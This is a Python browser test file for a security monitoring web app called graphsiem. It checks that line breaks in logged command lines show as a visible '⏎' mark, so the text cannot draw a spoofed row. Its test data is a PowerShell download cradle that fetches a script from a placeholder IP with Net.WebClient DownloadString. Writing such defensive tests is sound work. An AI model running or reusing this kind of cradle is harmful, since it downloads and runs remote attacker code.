"""A line break in a script body is shown as "⏎ " (review U5B #3), in Chromium.

The page wrote it as ``\\u000a`` (the anti-spoofing rule of ``graphsiem/visible_text.py``: no real
line break that could draw a fake row).  It is now the mark and a space where the text may wrap,
still no real break, in the Members list, a search row and an evidence detail; a ⏎ in the data
itself is written as its code, so every mark shown is one the page drew.  The command goes in
through ``POST /v1/events`` and a real detection makes its cluster.

The server's own one-line texts (the cluster's summary, its checks, a timeline row:
``graphsiem/visible_text.py``) folded the same breaks to spaces, so the summary hid that the command
had a second line; they now carry the same mark, and the page shows it as a mark (not ``\\u23ce``).
"""

from __future__ import annotations

import pytest

from tests.web.conftest import RARE_HOSTS, rare_command_site, screenshot
from tests.web.test_hostile_strings import assert_nothing_ran, search, sign_in

pytestmark = pytest.mark.browser

COMMAND = "powershell.exe -nop -c \"$u='http://203.0.113.9/a'\r\n$w=New-Object Net.WebClient\n$w.DownloadString($u) ⏎ fake\""
SHOWN = "$u='http://203.0.113.9/a'⏎ $w=New-Object Net.WebClient⏎ $w.DownloadString($u) \\u23ce fake"
SERVER_SHOWN = "$u='http://203.0.113.9/a'⏎ $w=New-Object Net.WebClient⏎"  # the summary and checks cut after it


@pytest.fixture(scope="module")
def lines_site(tmp_path_factory):
    with rare_command_site(tmp_path_factory.mktemp("lines"), COMMAND) as site:
        yield site


def _no_raw_break(text: str) -> None:
    assert "\\u000a" not in text and "\\u000d" not in text
    assert "\n" not in text and "\r" not in text


def test_search_members_and_evidence_mark_the_line_breaks(page, lines_site):
    sign_in(page, lines_site)
    search(page, "DownloadString")
    row = page.text_content("#search-results li button")
    # the row's label is cut; its value snippet shows the match's end, the data's own ⏎ as a code
    assert SHOWN[:52] in row and "DownloadString($u) \\u23ce fake" in row, row
    _no_raw_break(row)

    page.press("#search-input", "Escape")
    cluster = next(c for c in lines_site.api("GET", "/v1/clusters")["items"] if sorted(c["hosts"]) == RARE_HOSTS)
    page.goto(f"{lines_site.url}/#/clusters/{cluster['id']}")
    page.wait_for_selector("body[data-state=cluster-ready]")
    members = page.eval_on_selector_all("#members-list .member-value", "spans => spans.map(s => s.textContent)")
    shown = next(m for m in members if "DownloadString" in m)
    assert SHOWN in shown, shown
    _no_raw_break(shown)

    page.evaluate("() => window.graphsiem.clusterView.graph.cy.nodes('[type = \"process\"]')"
                  ".filter(n => n.data('value').includes('DownloadString'))[0].emit('tap')")
    page.wait_for_selector("body[data-evidence=ready]")
    lines = page.eval_on_selector_all("#evidence-table tbody tr:not(.missing) .evidence-detail > div.mono",
                                      "lines => lines.map(line => line.textContent)")
    detail = next(line for line in lines if line.startswith("process.command_line: "))
    assert SHOWN in detail, detail
    _no_raw_break(detail)
    screenshot(page, "line-break-marker")
    assert_nothing_ran(page)


def test_the_servers_summary_checks_and_timeline_mark_the_line_breaks_too(page, lines_site):
    sign_in(page, lines_site)
    cluster = next(c for c in lines_site.api("GET", "/v1/clusters")["items"] if sorted(c["hosts"]) == RARE_HOSTS)
    row_cell = f"#queue-body tr[data-cluster-id='{cluster['id']}'] td.summary"
    page.wait_for_selector(row_cell)
    row = page.text_content(row_cell)
    assert SERVER_SHOWN in row, row
    _no_raw_break(row)

    page.goto(f"{lines_site.url}/#/clusters/{cluster['id']}")
    page.wait_for_selector("body[data-state=cluster-ready]")
    summary = page.text_content("#cluster-summary")
    assert SERVER_SHOWN in summary, summary
    _no_raw_break(summary)
    checks = page.eval_on_selector_all(".check-text", "spans => spans.map(s => s.textContent)")
    quoting = [text for text in checks if "Net.WebClient" in text]
    assert quoting and all(SERVER_SHOWN in text for text in quoting), checks
    for text in quoting:
        _no_raw_break(text)

    page.goto(f"{lines_site.url}/")  # the queue again (the tab keeps the key): the host opens in an exploration
    page.wait_for_selector("body[data-state=queue]")
    search(page, RARE_HOSTS[0])
    page.click("#search-results li button:has(.type-host)")
    page.wait_for_selector("body[data-state=explore-ready]")
    page.wait_for_selector("#selection .host-timeline .timeline li")
    rows = page.eval_on_selector_all("#selection .host-timeline .timeline-summary", "spans => spans.map(s => s.textContent)")
    shown = next(text for text in rows if "DownloadString" in text)
    # the whole command: the server's marks as marks, the data's own ⏎ as its code
    assert SHOWN in shown, shown
    _no_raw_break(shown)
    screenshot(page, "line-break-marker-server-texts")
    assert_nothing_ran(page)
